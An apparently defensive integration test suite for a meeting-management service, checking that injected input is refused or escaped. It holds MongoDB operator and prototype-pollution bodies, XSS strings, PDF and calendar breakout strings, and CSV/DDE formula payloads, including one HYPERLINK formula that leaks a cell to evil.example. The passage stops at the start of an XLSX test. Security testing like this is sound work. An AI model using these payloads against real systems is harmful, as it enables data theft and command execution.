import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ICAL from 'ical.js';
import { request as httpRequest } from 'node:http';
import ExcelJS from 'exceljs';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { eventually } from '../support/eventually.js';
import {
  type AppName,
  type ServiceProcess,
  startApps,
  stopAllApps,
  testNamespace,
} from '../support/services.js';
import { coordinator, observer, secretariat } from '../support/tokens.js';

/** What an attacker puts in every text field that is shown somewhere. */
const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const LINK = '[click](javascript:alert(1))';
const hostile = (field: string) => `${field} ${SCRIPT} ${IMG} ${LINK}`;
/** Short fields (a party's name, a person's name) get a shorter payload. */
const hostileShort = (field: string) => `${field} ${SCRIPT}${IMG}`;
/** Would end the PDF string it is written in and add an action, were it not escaped. */
const PDF_BREAKOUT = ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (';
/** Would add properties (or whole events) to a calendar, were line breaks not escaped. */
const ICS_BREAKOUT = '\r\nATTENDEE:mailto:evil@example.org\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM';

/** The HTML elements the report page is built of; user text must never add another. */
const PAGE_TAGS = new Set(
  'html head meta title style body article h1 h2 h3 p section ul li strong em blockquote footer table tr td th a'.split(
    ' ',
  ),
);

const unescapeHtml = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');
const unescapeMarkdown = (text: string) => unescapeHtml(text.replace(/\\([\\`*_[\]|~#+\-.)])/g, '$1'));

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** A GET with the path sent exactly as written (fetch would resolve "..", "%2e%2e" and the like first). */
function rawGet(base: string, path: string, token?: string) {
  const url = new URL(base);
  return new Promise<{ status: number; headers: Record<string, unknown>; body: string }>(
    (resolve, reject) => {
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          path,
          method: 'GET',
          headers: token ? { authorization: `Bearer ${token}` } : {},
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () =>
            resolve({
              status: res.statusCode!,
              headers: res.headers,
              body: Buffer.concat(chunks).toString('latin1'),
            }),
          );
        },
      );
      req.on('error', reject);
      req.end();
    },
  );
}

/**
 * Injection, refused or neutralised: MongoDB operators in bodies and query strings, HTML and
 * script in every text that is rendered (report page, Markdown, PDF, calendar file, CSV),
 * spreadsheet formulas in the CSV export, and path traversal in names of files and routes.
 */
describe('injection', () => {
  const namespace = testNamespace('injection');
  let apps: Record<AppName, ServiceProcess>;
  let admin: string;
  let reader: string;
  /** A meeting with registration open, two delegations and a person each, a draft report, and a draft meeting. */
  const plain = {} as {
    meeting: string;
    draft: string;
    kazDelegation: string;
    kazPerson: string;
    kgzPerson: string;
    report: string;
    agenda: string[];
  };
  /** A meeting, its people and its report, with hostile text in every field that is shown. */
  const bad = {} as {
    meeting: string;
    report: string;
    fields: { html: string[]; markdown: string[]; pdf: string[] };
    csv: string[];
    title: string;
  };

  const inDays = (days: number, hour = 9) => {
    const date = new Date(Date.now() + days * 86_400_000);
    date.setUTCHours(hour, 0, 0, 0);
    return date.toISOString();
  };

  async function send(
    app: AppName,
    method: string,
    path: string,
    token: string | undefined = admin,
    body?: unknown,
    headers: Record<string, string> = {},
  ) {
    const response = await fetch(`${apps[app].url}${path}`, {
      method,
      headers: {
        ...headers,
        ...(token ? { authorization: `Bearer ${token}` } : {}),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
    });
    const bytes = Buffer.from(await response.arrayBuffer());
    const text = bytes.toString('utf8');
    let json: any; // eslint-disable-line @typescript-eslint/no-explicit-any
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: response.status, headers: response.headers, text, json, bytes };
  }

  async function must(app: AppName, method: string, path: string, body?: unknown, headers = {}) {
    const response = await send(app, method, path, admin, body, headers);
    if (response.status >= 300) throw new Error(`${method} ${path}: ${response.status} ${response.text}`);
    return response;
  }

  const meeting = (overrides: Record<string, unknown> = {}) => ({
    title: 'Consultation on mixed movements',
    kind: 'expert-consultation',
    startsAt: inDays(40, 4),
    endsAt: inDays(40, 12),
    timeZone: 'Asia/Almaty',
    registration: { opensAt: inDays(-1), closesAt: inDays(30), quotaPerDelegation: 20 },
    parties: [
      { code: 'KAZ', standings: ['member'] },
      { code: 'KGZ', standings: ['member'] },
    ],
    ...overrides,
  });

  async function createMeeting(body: Record<string, unknown>, steps: string[]) {
    const created = await must('events', 'POST', '/events', body);
    for (const step of steps) await must('events', 'POST', `/events/${created.json.id}/${step}`);
    return created.json as { id: string; agenda: Array<{ id: string }> };
  }

  const delegation = (eventId: string, party: string) =>
    eventually(async () => {
      const r = await send('participants', 'POST', `/events/${eventId}/delegations`, admin, {
        party,
        coordinator: { name: `Focal point of ${party}`, email: `focal@${party.toLowerCase()}.example` },
      });
      expect(r.status).toBe(201);
      return r.json.id as string;
    });

  beforeAll(async () => {
    apps = await startApps(['events', 'participants', 'reports'], { namespace });
    admin = await secretariat();
    reader = await observer();

    // --- the plain meeting -------------------------------------------------------------------
    const open = await createMeeting(meeting({ agenda: [{ title: 'Opening' }, { title: 'Closing' }] }), [
      'announce',
      'open-registration',
    ]);
    plain.meeting = open.id;
    plain.agenda = open.agenda.map((i) => i.id);
    plain.draft = (await createMeeting(meeting({ title: 'Unannounced draft meeting' }), [])).id;
    plain.kazDelegation = await delegation(plain.meeting, 'KAZ');
    const kgzDelegation = await delegation(plain.meeting, 'KGZ');
    plain.kazPerson = (
      await must('participants', 'POST', `/delegations/${plain.kazDelegation}/participants`, {
        name: { given: 'Aigerim', family: 'Nurlanova' },
        role: 'head',
        email: 'a.nurlanova@kaz.example',
        gender: 'female',
      })
    ).json.id;
    plain.kgzPerson = (
      await must('participants', 'POST', `/delegations/${kgzDelegation}/participants`, {
        name: { given: 'Aibek', family: 'Toktogulov' },
        role: 'head',
        email: 'a.toktogulov@kgz.example',
      })
    ).json.id;
    plain.report = await eventually(async () => {
      const r = await send('reports', 'POST', `/events/${plain.meeting}/reports`, admin, {
        language: 'en',
        content: { title: 'Outcome of the consultation' },
      });
      expect(r.status).toBe(201);
      return r.json.id as string;
    });

    // --- the hostile meeting -----------------------------------------------------------------
    bad.title = `${hostile('MeetingTitle')}${ICS_BREAKOUT}`;
    const venue = { name: hostileShort('VenueName'), address: hostileShort('VenueAddress'), city: 'Almaty' };
    const hostileMeeting = await createMeeting(
      meeting({
        title: bad.title,
        description: `${hostile('MeetingDescription')}${ICS_BREAKOUT}`,
        process: { name: hostile('ProcessName'), acronym: 'AP' },
        venue: { ...venue, country: 'KAZ' },
        parties: [
          { code: 'KAZ', name: hostileShort('KazName'), standings: ['member', 'chair'] },
          { code: 'IOM', name: hostileShort('IomName'), standings: ['initiator'] },
          { code: 'CALC', name: "=cmd|' /C calc'!A0", standings: ['observer'] },
        ],
        agenda: [{ title: hostile('AgendaTitle'), description: hostile('AgendaDescription') }],
      }),
      ['announce', 'open-registration'],
    );
    bad.meeting = hostileMeeting.id;
    const [kaz, iom, calc] = [
      await delegation(bad.meeting, 'KAZ'),
      await delegation(bad.meeting, 'IOM'),
      await delegation(bad.meeting, 'CALC'),
    ];
    const register = async (delegationId: string, body: Record<string, unknown>) =>
      (await must('participants', 'POST', `/delegations/${delegationId}/participants`, body)).json
        .id as string;
    const kazHead = await register(kaz, {
      name: { given: hostileShort('HeadGiven'), family: 'Argandykov' },
      position: hostile('HeadPosition'),
      organization: hostile('HeadOrganization'),
      honorific: '<b>H.E.</b>',
      role: 'head',
      email: 'head@kaz.example',
    });
    const iomHead = await register(iom, {
      name: {
        given: 'Даулет',
        family: 'Аргандыков',
        givenLatin: 'Daulet',
        familyLatin: hostileShort('Latin'),
      },
      role: 'head',
      email: 'head@iom.example',
    });
    // Cells a spreadsheet would run as formulas.
    bad.csv = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=1+1@example.org',
      "=cmd|' /C calc'!A0",
    ];
    await register(kaz, {
      name: { given: bad.csv[0], family: bad.csv[1] },
      position: bad.csv[4],
      organization: bad.csv[5],
      honorific: '@x',
      role: 'member',
      email: bad.csv[6],
    });
    await register(calc, {
      name: { given: bad.csv[2], family: bad.csv[3] },
      position: '-1',
      organization: '+7 727 000 00 00',
      role: 'head',
      email: 'calc@calc.example',
    });
    for (const id of [kazHead, iomHead]) await must('participants', 'POST', `/participants/${id}/accredit`);

    // The published report freezes the attendance the reports service has compiled by then.
    await eventually(async () => {
      const attendance = await send('reports', 'GET', `/events/${bad.meeting}/attendance`);
      expect(attendance.json?.totals).toMatchObject({ delegations: 3, accredited: 2 });
    });
    for (const step of ['close-registration', 'start'])
      await must('events', 'POST', `/events/${bad.meeting}/${step}`);
    const reportTitle = `${hostile('ReportTitle')} ${PDF_BREAKOUT}`;
    const content = {
      title: reportTitle,
      summary: hostile('Summary'),
      sections: [{ kind: 'opening', title: hostile('SectionTitle'), text: hostile('SectionText') }],
      statements: [
        {
          speaker: hostile('Speaker'),
          position: hostile('SpeakerPosition'),
          party: 'IOM',
          quote: hostile('Quote'),
        },
      ],
      decisions: [{ kind: 'agreement', text: hostile('Decision'), parties: ['KAZ', 'IOM'] }],
      recommendations: [{ text: hostile('Recommendation') }],
      followUps: [{ action: hostile('FollowUpAction'), responsible: hostile('Responsible'), status: 'open' }],
      annexes: [
        { title: hostile('AnnexTitle'), url: 'https://documents.example.org/a?x=%22%3E%3Cscript%3E' },
      ],
    };
    bad.report = await eventually(async () => {
      const r = await send('reports', 'POST', `/events/${bad.meeting}/reports`, admin, {
        language: 'en',
        content,
      });
      expect(r.status).toBe(201);
      return r.json.id as string;
    });
    await must('reports', 'POST', `/reports/${bad.report}/submit`);
    await eventually(async () =>
      expect((await send('reports', 'POST', `/reports/${bad.report}/publish`, admin, {})).status).toBe(200),
    );
    await must('reports', 'POST', `/reports/${bad.report}/amend`);
    await must('reports', 'POST', `/reports/${bad.report}/submit`);
    await must('reports', 'POST', `/reports/${bad.report}/publish`, { changeNote: hostile('ChangeNote') });
    await must('reports', 'POST', `/reports/${bad.report}/withdraw`, { reason: hostile('Withdrawal') });

    const common = [
      reportTitle,
      bad.title,
      hostile('ProcessName'),
      `${venue.name}, Almaty`,
      hostile('Summary'),
      hostileShort('KazName'),
      hostileShort('IomName'),
      `${hostileShort('HeadGiven')} Argandykov`,
      hostile('HeadPosition'),
      `Daulet ${hostileShort('Latin')}`,
      hostile('SectionTitle'),
      hostile('SectionText'),
      hostile('Speaker'),
      hostile('SpeakerPosition'),
      hostile('Quote'),
      hostile('Decision'),
      hostile('Recommendation'),
      hostile('FollowUpAction'),
      hostile('Responsible'),
      hostile('AnnexTitle'),
      hostile('ChangeNote'),
      hostile('Withdrawal'),
    ];
    bad.fields = {
      html: [...common, `${hostile('MeetingDescription')}${ICS_BREAKOUT}`],
      markdown: common,
      pdf: common,
    };
  });

  afterAll(stopAllApps);

  describe('MongoDB operators', () => {
    it('in JSON bodies are refused with 400, and change nothing', async () => {
      const etag = async (app: AppName, path: string) => (await send(app, 'GET', path)).headers.get('etag')!;
      const meetingTag = await etag('events', `/events/${plain.meeting}`);
      const delegationTag = await etag('participants', `/delegations/${plain.kazDelegation}`);
      const personTag = await etag('participants', `/participants/${plain.kazPerson}`);
      const reportTag = await etag('reports', `/reports/${plain.report}`);
      const person = {
        name: { given: 'Dana', family: 'Sultan' },
        role: 'member',
        email: 'dana.sultan@kaz.example',
      };
      const newMeeting = meeting();
      const snapshot = async () =>
        Promise.all([
          send('events', 'GET', `/events/${plain.meeting}`),
          send('events', 'GET', '/events?limit=200'),
          send('participants', 'GET', `/delegations/${plain.kazDelegation}`),
          send('participants', 'GET', `/participants/${plain.kazPerson}`),
          send('participants', 'GET', `/events/${plain.meeting}/participants`),
          send('participants', 'GET', `/events/${plain.meeting}/delegations`),
          send('reports', 'GET', `/reports/${plain.report}`),
          send('reports', 'GET', `/events/${plain.meeting}/reports`),
        ]).then((all) => all.map((r) => r.json as unknown));
      const before = await snapshot();

      const m = `/events/${plain.meeting}`;
      const call =
        (app: AppName) =>
        (method: string, path: string, body: unknown, headers: Record<string, string> = {}) => ({
          app,
          method,
          path,
          body,
          headers,
        });
      const [E, P, R] = [call('events'), call('participants'), call('reports')];
      const cases = [
        E('POST', '/events', { ...newMeeting, title: { $ne: null } }),
        E('POST', '/events', { ...newMeeting, title: { $gt: '' } }),
        E('POST', '/events', { ...newMeeting, $where: 'sleep(1000) || true' }),
        E('POST', '/events', { ...newMeeting, 'venue.name': 'Geneva' }),
        E('POST', '/events', { ...newMeeting, parties: [{ code: { $ne: null }, standings: ['member'] }] }),
        E('POST', '/events', {
          ...newMeeting,
          parties: [{ code: 'KAZ', standings: ['member'], $where: '1' }],
        }),
        E('POST', '/events', { ...newMeeting, agenda: { $where: '1' } }),
        E('POST', '/events', { ...newMeeting, registration: { $set: { quotaPerDelegation: 500 } } }),
        E('PATCH', m, { $set: { state: 'concluded' } }, { 'if-match': meetingTag }),
        E('PATCH', m, { title: { $ne: null } }, { 'if-match': meetingTag }),
        E('PATCH', m, { 'title.$': 'x' }, { 'if-match': meetingTag }),
        E('PATCH', m, { description: { $where: 'this.state' } }, { 'if-match': meetingTag }),
        E('PATCH', m, { version: 99 }, { 'if-match': meetingTag }),
        E('PATCH', m, { description: 'x' }, { 'if-match': '{"$gt":0}' }),
        E('POST', `${m}/cancel`, { reason: { $ne: '' } }),
        E('POST', `${m}/postpone`, { startsAt: { $gt: '' }, endsAt: { $gt: '' } }),
        E('POST', `${m}/agenda`, { title: 'x', $inc: { version: 1 } }, { 'if-match': meetingTag }),
        E('PUT', `${m}/agenda/order`, { itemIds: { $ne: [] } }, { 'if-match': meetingTag }),
        E('PUT', `${m}/agenda/order`, { itemIds: [{ $gt: '' }] }, { 'if-match': meetingTag }),
        E('PATCH', `${m}/agenda/${plain.agenda[0]}`, { title: { $ne: null } }, { 'if-match': meetingTag }),
        P('POST', `/events/${plain.meeting}/delegations`, {
          party: { $ne: null },
          coordinator: { name: 'X Y', email: 'x@example.org' },
        }),
        P('POST', `/events/${plain.meeting}/delegations`, {
          party: 'TJK',
          coordinator: { name: 'X Y', email: 'x@example.org', $where: '1' },
        }),
        P(
          'PATCH',
          `/delegations/${plain.kazDelegation}`,
          { coordinator: { name: { $gt: '' }, email: 'x@example.org' } },
          { 'if-match': delegationTag },
        ),
        P('PATCH', `/delegations/${plain.kazDelegation}`, { 'seats.0': 'x' }, { 'if-match': delegationTag }),
        P('POST', `/delegations/${plain.kazDelegation}/credentials-received`, { reference: { $ne: null } }),
        P('POST', `/delegations/${plain.kazDelegation}/withdraw`, { reason: { $regex: '.*' } }),
        P('POST', `/delegations/${plain.kazDelegation}/participants`, { ...person, email: { $ne: null } }),
        P('POST', `/delegations/${plain.kazDelegation}/participants`, {
          ...person,
          name: { given: { $gt: '' }, family: 'Sultan' },
        }),
        P('POST', `/delegations/${plain.kazDelegation}/participants`, { ...person, $where: '1' }),
        P('POST', `/delegations/${plain.kazDelegation}/participants`, {
          ...person,
          name: { given: 'Dana', family: 'Sultan', 'x.y': 1 },
        }),
        P('PATCH', `/participants/${plain.kazPerson}`, { email: { $ne: null } }, { 'if-match': personTag }),
        P('PATCH', `/participants/${plain.kazPerson}`, { $inc: { version: 1 } }, { 'if-match': personTag }),
        P('PATCH', `/participants/${plain.kazPerson}`, { 'role.$': 'head' }, { 'if-match': personTag }),
        P('PATCH', `/participants/${plain.kazPerson}`, { state: 'accredited' }, { 'if-match': personTag }),
        P(
          'PATCH',
          `/participants/${plain.kazPerson}`,
          { gender: { $exists: true } },
          { 'if-match': personTag },
        ),
        P('POST', `/participants/${plain.kazPerson}/reject`, { reason: { $where: '1' } }),
        R('POST', `/events/${plain.meeting}/reports`, {
          language: { $ne: null },
          content: { title: 'Outcome' },
        }),
        R('POST', `/events/${plain.meeting}/reports`, {
          language: 'fr',
          content: { title: 'Outcome', $where: '1' },
        }),
        R(
          'PATCH',
          `/reports/${plain.report}/draft`,
          { sections: [{ kind: 'other', title: 'T', text: { $ne: null } }] },
          { 'if-match': reportTag },
        ),
        R(
          'PATCH',
          `/reports/${plain.report}/draft`,
          { 'versions.0.state': 'published' },
          { 'if-match': reportTag },
        ),
        R('PATCH', `/reports/${plain.report}/draft`, { summary: ['a', 'b'] }, { 'if-match': reportTag }),
        R('POST', `/reports/${plain.report}/publish`, { changeNote: { $exists: true } }),
        R('POST', `/reports/${plain.report}/withdraw`, { reason: { $ne: '' } }),
      ];
      const refused = await Promise.all(
        cases.map(async ({ app, method, path, body, headers }) => {
          const r = await send(app, method, path, admin, body, headers);
          return { call: `${method} ${path} ${JSON.stringify(body)}`, status: r.status, code: r.json?.code };
        }),
      );
      expect(refused.filter((r) => r.status !== 400)).toEqual([]);
      expect(refused.filter((r) => !['VALIDATION_FAILED', 'INVALID_IF_MATCH'].includes(r.code))).toEqual([]);
      expect(await snapshot()).toEqual(before);
    });

    it('in query strings give 400 or are taken as plain text, and never show more', async () => {
      const people = (query: string, token = admin) =>
        send('participants', 'GET', `/events/${plain.meeting}/participants?${query}`, token);
      const kgz = await coordinator(plain.meeting, 'KGZ');
      const baseline = await people('');
      expect(baseline.json.items).toHaveLength(2);

      for (const query of [
        'party[$ne]=x',
        'party[$gt]=',
        'state[$gt]=',
        'state[$ne]=withdrawn',
        'role[$in][]=head',
        'q[$regex]=.*',
        'q[$ne]=x',
        'party=KAZ&party=KGZ',
        'q=a&q=b',
        '$where=1',
        'limit[$gt]=0',
        'cursor[$ne]=x',
      ]) {
        const answer = await people(query);
        // Refused, or treated as text that matches nobody: never the whole list.
        expect({ query, status: answer.status, code: answer.json?.code }).toEqual({
          query,
          status: 400,
          code: 'VALIDATION_FAILED',
        });
      }
      // Regular expression syntax in a search is text.
      for (const q of ['.*', '^', '(', '[', '\\', 'a|b', '.', '$']) {
        const answer = await people(`q=${encodeURIComponent(q)}`);
        expect({ q, status: answer.status, items: answer.json?.items }).toEqual({
          q,
          status: 200,
          items: [],
        });
      }
      // Another party's coordinator asking for Kazakhstan's people sees no more than the public list.
      const asKgz = await people('party=KAZ', kgz);
      expect(asKgz.status).toBe(200);
      expect(asKgz.text).not.toContain('a.nurlanova@kaz.example');

      // A cursor is the service's own: one made up, with an operator or a bad date, is refused.
      const forged = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
      for (const cursor of [
        forged({ party: { $gt: '' }, name: '', id: '' }),
        forged({ party: 'KAZ', name: { $ne: null }, id: { $ne: null } }),
        forged(['KAZ']),
      ]) {
        const answer = await people(`cursor=${cursor}`);
        expect({ cursor, status: answer.status, code: answer.json?.code }).toEqual({
          cursor,
          status: 400,
          code: 'INVALID_CURSOR',
        });
      }
      for (const cursor of [
        forged({ startsAt: 'not a date', id: 'x' }),
        forged({ startsAt: { $gt: '' }, id: { $ne: null } }),
      ]) {
        const answer = await send('events', 'GET', `/events?cursor=${cursor}`, reader);
        expect({ cursor, status: answer.status }).toEqual({ cursor, status: 400 });
      }

      // Meetings: no filter lets an observer see a draft.
      for (const query of [
        'state[$ne]=announced',
        'state=draft',
        'party[$ne]=x',
        'process[$regex]=.*',
        'process=.*',
        'from[$gt]=',
        'order[$ne]=asc',
      ]) {
        const answer = await send('events', 'GET', `/events?${query}`, reader);
        expect(answer.text).not.toContain('Unannounced draft meeting');
        expect([400, 200]).toContain(answer.status);
        if (answer.status === 200) {
          expect({ query, items: answer.json.items }).toEqual({ query, items: [] });
        } else expect(answer.json.code).toBe('VALIDATION_FAILED');
      }
      // (The draft is there, for the secretariat.)
      const drafts = await send('events', 'GET', '/events?state=draft');
      expect(drafts.json.items.map((e: { id: string }) => e.id)).toContain(plain.draft);

      for (const path of [
        `/events/${plain.meeting}/as-of?at[$gt]=`,
        `/events/${plain.meeting}/history/${encodeURIComponent('{"$gt":0}')}`,
      ]) {
        expect({ path, status: (await send('events', 'GET', path)).status }).toEqual({ path, status: 400 });
      }
      for (const path of [
        `/reports/${plain.report}/diff?from[$gt]=0&to=1`,
        `/reports/${plain.report}/versions/${encodeURIComponent('{"$gt":0}')}`,
        `/reports/${plain.report}.html?version[$gt]=0`,
        `/reports/${plain.report}.html?version=${encodeURIComponent('{"$gt":0}')}`,
      ]) {
        const status = (await send('reports', 'GET', path)).status;
        // Refused as a bad request, or as a version that is not published: never a draft's page.
        expect({ path, refused: [400, 404, 409].includes(status) }).toEqual({ path, refused: true });
      }
      // Ids in paths are UUIDs, never objects or patterns.
      for (const [app, path] of [
        ['events', `/events/${encodeURIComponent('{"$ne":null}')}`],
        ['participants', `/participants/${encodeURIComponent('{"$ne":null}')}`],
        ['participants', `/delegations/${encodeURIComponent('.*')}`],
        ['reports', `/reports/${encodeURIComponent('{"$gt":""}')}`],
      ] as const) {
        expect({ path, status: (await send(app, 'GET', path)).status }).toEqual({ path, status: 400 });
      }
    });

    it('in prototype keys are refused like any unknown field, and change nothing', async () => {
      const person = `/participants/${plain.kgzPerson}`;
      const before = (await send('participants', 'GET', person)).json;
      const bodies = [
        '{"__proto__":{"role":"secretariat","state":"accredited"}}',
        '{"constructor":{"prototype":{"role":"secretariat"}}}',
        '{"prototype":{"role":"secretariat"}}',
        '{"position":"x","__proto__":{"email":"evil@example.org"}}',
        '{"name":{"given":"Aibek","family":"Toktogulov","__proto__":{"x":1}}}',
      ];
      const answers = [];
      for (const body of bodies) {
        const tag = (await send('participants', 'GET', person)).headers.get('etag')!;
        const answer = await send('participants', 'PATCH', person, admin, body, { 'if-match': tag });
        answers.push({ body, status: answer.status, code: answer.json?.code });
      }
      expect(answers).toEqual(bodies.map((body) => ({ body, status: 400, code: 'VALIDATION_FAILED' })));
      expect((await send('participants', 'GET', person)).json).toEqual(before);
      // Nothing leaked into the objects the services build afterwards.
      expect((await send('events', 'POST', '/events', reader, meeting())).status).toBe(403);
      expect((await send('participants', 'GET', person, reader)).json.email).toBeUndefined();
    });
  });

  describe('HTML and script in rendered text', () => {
    it('are escaped on the report page: no element, attribute or link of the attacker’s', async () => {
      for (const path of [`/reports/${bad.report}.html`, `/reports/${bad.report}/versions/2/preview.html`]) {
        const page = await send('reports', 'GET', path);
        expect(page.status).toBe(200);
        expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
        const html = page.text;
        const tags = new Set(
          [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1].toLowerCase()),
        );
        expect([...tags].filter((tag) => !PAGE_TAGS.has(tag))).toEqual([]);
        expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
        expect(html).not.toMatch(/href\s*=\s*["']?\s*javascript:/i);
        // Every field is there, as the text that was written.
        const shown = unescapeHtml(html.replace(/<[^>]*>/g, ''));
        const missing = bad.fields.html.filter((f) => !shown.includes(f));
        expect(missing).toEqual([]);
      }
    });

    it('are escaped in the Markdown: no HTML, link or emphasis of the attacker’s', async () => {
      const answer = await send('reports', 'GET', `/reports/${bad.report}.md`, undefined);
      expect(answer.status).toBe(200);
      const markdown = answer.text;
      // The only "<" is the one around the annex's web address.
      expect(markdown.replace(/\]\(<https:\/\/[^>\s]+>\)/g, '')).not.toContain('<');
      expect(markdown).not.toContain('[click](');
      // "\[click\](…)" is text; an unescaped "](" would make a link.
      expect(markdown).not.toMatch(/(?<!\\)\]\(\s*<?\s*javascript:/i);
      const shown = unescapeMarkdown(markdown);
      expect(bad.fields.markdown.filter((f) => !shown.includes(f))).toEqual([]);
      const diff = await send('reports', 'GET', `/reports/${bad.report}/diff?from=1&to=2`);
      expect(diff.status).toBe(200);
      expect(diff.text).not.toContain('<script');
    });

    it('are drawn as text in the PDF, which carries no action or script', async () => {
      const answer = await send('reports', 'GET', `/reports/${bad.report}.pdf`, undefined);
      expect(answer.status).toBe(200);
      const pdf = await getDocument({ data: new Uint8Array(answer.bytes) }).promise;
      const { info } = (await pdf.getMetadata()) as { info: { Title?: string; Subject?: string } };
      expect(info.Title).toBe(`${hostile('ReportTitle')} ${PDF_BREAKOUT}`);
      expect(info.Subject).toBe(bad.title);
      expect(await pdf.getJSActions()).toBeNull();
      expect(await pdf.getOpenAction()).toBeNull();
      expect(await pdf.getAttachments()).toBeNull();
      let text = '';
      for (let n = 1; n <= pdf.numPages; n++) {
        const page = await pdf.getPage(n);
        expect(await page.getAnnotations()).toEqual([]);
        const content = await page.getTextContent();
        text += content.items.map((item) => ('str' in item ? item.str : '')).join('');
      }
      // Text is compared without spaces and line breaks (where a line wraps is the layout's; a
      // carriage return is drawn as an empty glyph, which the extractor reads as U+0000).
      const squeezed = (s: string) => s.replace(/\s+/g, '').split('\u0000').join('');
      expect(bad.fields.pdf.filter((f) => !squeezed(text).includes(squeezed(f)))).toEqual([]);
    });

    it('cannot add anything to the calendar file: one event, its text as written', async () => {
      const answer = await send('events', 'GET', `/events/${bad.meeting}.ics`, reader);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toMatch(/^text\/calendar/);
      const unfolded = answer.text.replace(/\r\n[ \t]/g, '');
      const names = unfolded
        .split('\r\n')
        .filter(Boolean)
        .map((line) => line.split(/[:;]/)[0]);
      expect(
        names.filter(
          (n) =>
            !/^(BEGIN|END|VERSION|PRODID|METHOD|NAME|X-WR-CALNAME|X-WR-TIMEZONE|UID|SEQUENCE|DTSTAMP|DTSTART|DTEND|LAST-MODIFIED|CREATED|SUMMARY|DESCRIPTION|LOCATION|STATUS|TZID|TZOFFSETFROM|TZOFFSETTO|TZNAME)$/.test(
              n,
            ),
        ),
      ).toEqual([]);
      // The calendar, the meeting's time zone with its observances (RFC 5545 §3.6.5), one event.
      const begun = unfolded
        .split('\r\n')
        .filter((line) => line.startsWith('BEGIN:'))
        .map((line) => line.slice('BEGIN:'.length));
      expect(begun.filter((c) => !/^(VCALENDAR|VTIMEZONE|STANDARD|DAYLIGHT|VEVENT)$/.test(c))).toEqual([]);
      expect(begun.filter((c) => c === 'VEVENT')).toHaveLength(1);
      const calendar = new ICAL.Component(ICAL.parse(answer.text));
      expect(calendar.getAllSubcomponents().map((c) => c.name)).toEqual(['vtimezone', 'vevent']);
      const vevent = calendar.getFirstSubcomponent('vevent')!;
      expect(vevent.getAllSubcomponents()).toEqual([]);
      const lf = (s: string) => s.replace(/\r\n?/g, '\n');
      // ical.js leaves an X- property's value escaped, as it is on its one line.
      const unescapeText = (s: string) => s.replace(/\\n/gi, '\n').replace(/\\([,;\\])/g, '$1');
      expect(unescapeText(String(calendar.getFirstPropertyValue('x-wr-calname')))).toBe(lf(bad.title));
      const event = new ICAL.Event(vevent);
      expect(event.summary).toBe(lf(bad.title));
      expect(event.location).toBe(`${hostileShort('VenueName')}, ${hostileShort('VenueAddress')}, Almaty`);
      expect(event.description).toContain(lf(`${hostile('MeetingDescription')}${ICS_BREAKOUT}`));
      expect(event.description).toContain(hostile('AgendaTitle'));
      expect(event.attendees).toEqual([]);
    });

    it('come out of the CSV export as text, in a file that is downloaded, not shown', async () => {
      const answer = await send('participants', 'GET', `/events/${bad.meeting}/participants.csv`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toBe('attachment; filename="participants.csv"');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      const rows = parseCsv(answer.text.replace(/^\uFEFF/, ''));
      const cells = rows.flat();
      expect(cells).toContain(`${hostileShort('HeadGiven')}`);
      expect(cells).toContain(hostile('HeadPosition'));
      expect(cells).toContain('<b>H.E.</b>');
    });
  });

  describe('spreadsheet formulas in the CSV export', () => {
    it('are neutralised with a leading apostrophe, whichever character starts them', async () => {
      const answer = await send('participants', 'GET', `/events/${bad.meeting}/participants.csv`);
      const rows = parseCsv(answer.text.replace(/^\uFEFF/, ''));
      expect(rows[0][0]).toBe('Party');
      const cells = rows.flat();
      // No cell a spreadsheet would run.
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      // Each formula is kept, as text.
      for (const value of [...bad.csv, '@x', '-1', '+7 727 000 00 00'])
        expect({ value, found: cells.includes(`'${value}`) }).toEqual({ value, found: true });
      // A coordinator's own export is neutralised the same way.
      const own = await send(
        'participants',
        'GET',
        `/events/${bad.meeting}/participants.csv`,
        await coordinator(bad.meeting, 'KAZ'),
      );
      const ownCells = parseCsv(own.text.replace(/^\uFEFF/, '')).flat();
      expect(ownCells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(ownCells).toContain(`'${bad.csv[0]}`);
    });
  });

  describe('spreadsheet formulas in the XLSX export', () => {
    it('are text cells holding exactly what was typed, never formulas', async () => {
